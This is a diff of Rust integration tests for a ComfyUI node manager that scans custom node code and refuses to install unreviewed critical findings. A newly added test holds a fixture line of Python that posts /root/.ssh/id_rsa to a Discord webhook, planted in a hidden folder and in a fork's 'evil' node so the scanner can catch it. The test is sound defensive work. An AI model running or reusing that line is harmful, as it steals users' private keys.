@@ -106,7 +106,7 @@ fn programs_read_what_a_scan_found() {
     {
       "category": "ssrf",
       "column": 7,
-      "fingerprint": "fdde75ba562557ee",
+      "fingerprint": "5c57d910f636c9036a2d1bda87d07e31",
       "intent": "webhook",
       "line": 1,
       "message": "it connects to discord.com",
@@ -304,7 +304,7 @@ fn critical_code_that_nobody_accepted_is_neither_locked_nor_installed() {
     insta::assert_snapshot!(format!("{refused}{stopped}"), @r#"
     isolation = "none": ComfyUI and its nodes have all your rights; nothing is protected.
     error: node.node: js/a.js:1:7: it connects to discord.com (js-webhook, critical), and nobody has accepted it
-      hint: read it, then choose: another commit; `comfy review node`; or in [policy] of comfy.toml `accept = [{ node = "node", rule = "js-webhook", path = "js/a.js", reason = "why it is safe" }]`, then `comfy lock`
+      hint: read it, then choose another commit, or add to [policy] of comfy.toml `accept = [{ node = "node", rule = "js-webhook", path = "js/a.js", reason = "why it is safe" }]` and run the same command again; `comfy review node` accepts what comfy.lock pins
     comfy will perform the following actions:
       ~ update in place
 
@@ -325,7 +325,7 @@ fn critical_code_that_nobody_accepted_is_neither_locked_nor_installed() {
     Plan: 0 to add, 2 to change, 0 to destroy.
     isolation = "none": ComfyUI and its nodes have all your rights; nothing is protected.
     error: node.node: js/a.js:1:7: it connects to discord.com (js-webhook, critical), and nobody has accepted it
-      hint: read it, then choose: another commit; `comfy review node`; or in [policy] of comfy.toml `accept = [{ node = "node", rule = "js-webhook", path = "js/a.js", reason = "why it is safe" }]`, then `comfy lock`
+      hint: read it, then choose another commit, or add to [policy] of comfy.toml `accept = [{ node = "node", rule = "js-webhook", path = "js/a.js", reason = "why it is safe" }]` and run the same command again; `comfy review node` accepts what comfy.lock pins
     "#);
     let plan = project.ok(&["plan"]);
     assert!(
@@ -351,6 +351,79 @@ fn critical_code_that_nobody_accepted_is_neither_locked_nor_installed() {
     project.ok(&["lock"]);
     project.ok(&["apply", "--yes", "--no-check"]);
     project.ok(&["lock", "--check"]);
+}
+
+/// What is installed is scanned, wherever in the tree it is: a fork of ComfyUI with a node of its
+/// own, a folder that tools pass over.
+#[test]
+fn nothing_that_is_installed_is_passed_over() {
+    let project = Project::new("scan = \"warn\"");
+    let steals: &[u8] = b"import requests\nrequests.post('https://discord.com/api/webhooks/1/x', \
+        data=open('/root/.ssh/id_rsa').read())\n";
+    let files: Vec<File> = vec![
+        ("__init__.py", b"NODE_CLASS_MAPPINGS = {}\n", 0o100_644),
+        (".svn/x.py", steals, 0o100_644),
+    ];
+    project.node.commit(&files);
+    let fork = Upstream::new(&project.root.join("upstream"), "up/fork");
+    let mut core: Vec<File> = CORE.to_vec();
+    core.push(("custom_nodes/evil/__init__.py", steals, 0o100_644));
+    fork.commit(&core);
+    let path = project.root.join("dotfiles/comfy.toml");
+    let forked = |scan: &str| {
+        project.set_policy(&format!("scan = \"{scan}\""));
+        let text = fs::read_to_string(&path)
+            .unwrap()
+            .replace("up/ComfyUI", "up/fork");
+        fs::write(&path, text).unwrap();
+    };
+    forked("warn");
+    project.ok(&["lock"]);
+    forked("block");
+    let refused = project.refused(&["apply", "--yes", "--no-check"]);
+    assert!(
+        refused.contains("comfyui: custom_nodes/evil/__init__.py:2")
+            && refused.contains("node.node: .svn/x.py:2"),
+        "{refused}"
+    );
+    // An entry that names nothing is not bound to anything, so that it can name something later.
+    project.set_policy(
+        "scan = \"warn\"\naccept = [{ node = \"node\", rule = \"js-webhook\", path = \"js/a.js\", \
+         reason = \"later\" }]",
+    );
+    let warned = project.ok(&["lock"]);
+    assert!(
+        warned.contains("has no finding js-webhook in js/a.js here"),
+        "{warned}"
+    );
+    assert!(!project.lock_text().contains("[[accepted]]"));
+}
+
+/// What is left out or lies in a submodule belongs to what was reviewed.
+#[test]
+fn a_review_ends_where_something_else_would_be_installed() {
+    let project = Project::new("review = \"required\"");
+    let files: Vec<File> = vec![
+        ("__init__.py", b"NODE_CLASS_MAPPINGS = {}\n", 0o100_644),
+        ("extra/e.py", b"x = 1\n", 0o100_644),
+    ];
+    project.node.commit(&files);
+    let path = project.root.join("dotfiles/comfy.toml");
+    let text = fs::read_to_string(&path).unwrap();
+    let without = text.replace("[policy]", "exclude = [\"extra\"]\n[policy]");
+    fs::write(&path, &without).unwrap();
+    project.ok(&["lock"]);
+    project.ok(&["review", "node", "--yes"]);
+    project.ok(&["review", "comfyui", "--yes"]);
+    project.ok(&["apply", "--yes", "--no-check"]);
+    fs::write(&path, &text).unwrap();
+    project.ok(&["lock"]);
+    let (code, refused) = project.run(&["apply", "--yes", "--no-check"]);
+    assert_eq!(code, Some(1), "{refused}");
+    assert!(
+        refused.contains("its code has changed since it was reviewed"),
+        "{refused}"
+    );
 }
 
 #[test]
